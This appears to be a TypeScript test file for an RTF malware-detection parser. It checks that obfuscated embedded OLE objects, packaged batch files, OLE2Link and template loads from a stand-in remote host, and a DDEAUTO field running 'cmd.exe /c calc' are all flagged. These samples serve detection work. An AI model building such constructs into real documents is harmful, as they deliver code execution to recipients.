import { describe, expect, test } from 'vitest';
import { readRtf } from '../sandbox-runner/static/rtf.ts';
import { oleNative, oleOne } from './samples/office.ts';

const rules = (text: string) => readRtf(Buffer.from(text, 'latin1')).signals!.map((one) => one.rule);
const equation = oleOne('Equation.3', Buffer.from('0400000041414141', 'hex')).toString('hex');
const half = equation.length / 2;

describe('an object in RTF', () => {
  test.each([
    ['with a number behind its word', `{\\rtf1{\\object{\\*\\objdata15 ${equation}}}}`],
    ['with blanks between all digits', `{\\rtf1{\\object{\\*\\objdata\r\n${[...equation].join(' \t')}}}}`],
    [
      'with digits in a group that readers skip',
      `{\\rtf1{\\object{\\*\\objdata ${equation.slice(0, half)}{\\*\\zzz 4142}${equation.slice(half)}}}}`,
    ],
    [
      'with digits in a group that readers do not skip',
      `{\\rtf1{\\object{\\*\\objdata {${equation.slice(0, half)}}${equation.slice(half)}}}}`,
    ],
    [
      'with its bytes as they are',
      `{\\rtf1{\\object{\\*\\objdata \\bin${half} ${Buffer.from(equation, 'hex').toString('latin1')}}}}`,
    ],
    ['without a star', `{\\rtf1{\\object{\\objdata ${equation}}}}`],
  ])('is read however it is spelled: %s', (_what, text) => {
    expect(rules(text)).toEqual(['assay-document-equation', 'assay-rtf-object']);
  });
  test('that is a package is a member with its own name, also where the head of the package is bent', () => {
    const script = Buffer.from('@echo off\r\n');
    const native = oleNative('run.bat', script);
    for (const data of [
      oleOne('Package', native),
      Buffer.concat([oleOne('Package', Buffer.alloc(0)).subarray(0, 20), native]),
    ]) {
      const { members } = readRtf(Buffer.from(`{\\rtf1{\\object\\objemb{\\*\\objdata ${data.toString('hex')}}}}`));
      expect(members!.map((one) => [one.name, one.bytes.toString()])).toEqual([['run.bat', script.toString()]]);
    }
  });
  test('that is a link to an address loads it', () => {
    const address = Buffer.from('http://files.example-host.net/a.hta\0', 'utf16le');
    const size = Buffer.alloc(4);
    size.writeUInt32LE(address.length);
    const data = Buffer.concat([
      oleOne('OLE2Link', Buffer.alloc(64)),
      Buffer.from('e0c9ea79f9bace118c8200aa004ba90b', 'hex'),
      size,
      address,
    ]);
    const found = readRtf(Buffer.from(`{\\rtf1{\\object{\\*\\objdata ${data.toString('hex')}}}}`));
    expect(found.signals!.map((one) => one.rule)).toContain('assay-document-remote');
    expect(found.layers!.map((one) => one.bytes.toString())).toContain('http://files.example-host.net/a.hta');
  });
});

describe('a field in RTF', () => {
  test('that asks another program for data is the command that it is, in whatever letters', () => {
    const found = readRtf(
      Buffer.from(
        '{\\rtf1{\\field{\\*\\fldinst {\\b D}\\\'44{\\u69?AUTO} c:\\\\\\\\windows\\\\\\\\cmd.exe "/c calc"}{\\fldrslt x}}}',
      ),
    );
    expect(found.signals!.map((one) => one.rule)).toEqual(['assay-document-dde']);
    expect(found.commands).toEqual(['c:\\windows\\cmd.exe /c calc']);
  });
  test('of a page number beside a text about DDE is none', () => {
    const found = readRtf(Buffer.from('{\\rtf1 DDEAUTO is old. {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}}'));
    expect(found).toMatchObject({ signals: [], active: false, complete: true });
  });
});

test('a template of RTF is remote when it is on another machine, and not when it is on this one', () => {
  expect(rules('{\\rtf1{\\*\\template http://files.example-host.net/a.dotm}}')).toEqual(['assay-document-remote']);
  expect(rules('{\\rtf1{\\*\\template \\\\\\\\files.example-host.net\\\\a.dotm}}')).toEqual(['assay-document-remote']);
  expect(rules('{\\rtf1{\\*\\template {\\u104?ttp}://files.example-host.net/a.dotm}}')).toEqual([
    'assay-document-remote',
  ]);
  expect(rules('{\\rtf1{\\*\\template file:///C:\\\\Users\\\\ann\\\\Letter.dotx}}')).toEqual([]);
});

test('RTF of any size takes time in proportion to it', () => {
  const seconds = (text: string) => {
    const start = process.cpuUsage();
    readRtf(Buffer.from(text, 'latin1'));
    const { user, system } = process.cpuUsage(start);
    return (user + system) / 1e6;
  };
  for (const piece of [
    '{\\*\\objdata 01',
    '\\objdata',
    '\\\\',
    '{\\*\\fldinst ',
    '\\bin9 ',
    "\\'41",
    '\\u65 ',
    '{{{{',
    '41 ',
  ]) {
    expect(seconds(`{\\rtf1${piece.repeat(2_000_000 / piece.length)}`), piece).toBeLessThan(10);
  }
});
